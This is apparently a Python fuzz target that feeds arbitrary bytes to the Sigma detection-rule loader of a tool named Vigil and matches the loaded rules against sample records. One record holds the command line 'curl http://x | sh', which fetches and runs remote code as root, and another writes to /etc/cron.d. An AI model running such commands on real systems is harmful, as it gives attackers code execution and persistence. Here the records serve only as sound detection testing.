"""The fuzz target of the Sigma rule loader: a rule file as anyone may write it.

``rules(data)`` writes the bytes as a rule file, loads it (YAML, the Sigma schema, modifiers,
the condition grammar, RE2), compiles what loaded into the matcher and matches two records.
It passes when every rule loads or is refused with an InputError (vigil.rules.errors
.RuleError) of one line naming the file; anything else (an IndexError, a RecursionError, a
regex that reaches the matcher uncompiled, ...) is a crash. Same contract as the other
targets (tests/fuzz/targets.py); registering it there as ``Target("rules", rules, "fuzz.yml",
1 << 14)`` with ``"rules": INSTRUMENT`` in tests/fuzz/engine.py puts it into
``python -m tests.fuzz.run``. Until then it runs on its own:

    mkdir -p build/fuzz/rules   # libFuzzer writes what it learns into the first directory
    .venv/bin/python -m tests.fuzz.target_rules -max_total_time=60 build/fuzz/rules \
        tests/fuzz/corpus/rules

Seeds: tests/fuzz/corpus/rules (shipped SigmaHQ rules and the differential test's edge-case
rules, which use every modifier and condition form).
"""

from __future__ import annotations

import sys
import tempfile
from functools import cache
from pathlib import Path

# Nothing of Vigil or PyYAML is imported at the top: under atheris (main) they must be
# imported inside its instrumentation to guide the fuzzer.
SOURCE = "fuzz.yml"
INSTRUMENT = ("vigil.rules", "yaml")
SEEDS = Path(__file__).resolve().parent / "corpus" / "rules"
MAX_LEN = 1 << 14
_RECORDS = (
    {"Image": "/usr/bin/bash", "CommandLine": "bash -c 'curl http://x | sh'",
     "ParentImage": "/usr/sbin/sshd", "User": "root", "LogonId": "0", "ProcessId": "42"},
    {"TargetFilename": "/etc/cron.d/x\x1ey", "DestinationIp": "10.0.0.1", "Initiated": "true"},
)


@cache
def _scratch() -> Path:
    return Path(tempfile.mkdtemp(prefix="vigil-fuzz-rules-"))


def rules(data: bytes) -> None:
    from tests.fuzz.targets import check_message
    from vigil.rules.loader import load_paths
    from vigil.rules.matcher import Engine

    path = _scratch() / SOURCE
    path.write_bytes(data)
    result = load_paths([path])
    for e in result.refused:
        check_message(e, SOURCE)
    engine = Engine.build(result.rules)
    for e in engine.errors:
        check_message(e, SOURCE)
    for r in result.rules:
        for rec in _RECORDS:
            engine.match(r.logsource.category or "", rec)


def run_one(data: bytes) -> None:
    from tests.fuzz.targets import check_message
    from vigil.kernel.errors import InputError

    try:
        rules(data)
    except InputError as e:   # an unreadable path, say: still one line naming the file
        check_message(e, SOURCE)


def main() -> None:
    import atheris

    with atheris.instrument_imports(include=list(INSTRUMENT)):
        import vigil.rules.loader
        import vigil.rules.matcher  # noqa: F401
    atheris.Setup([sys.argv[0], f"-max_len={MAX_LEN}", *sys.argv[1:]], run_one)
    atheris.Fuzz()


if __name__ == "__main__":
    main()
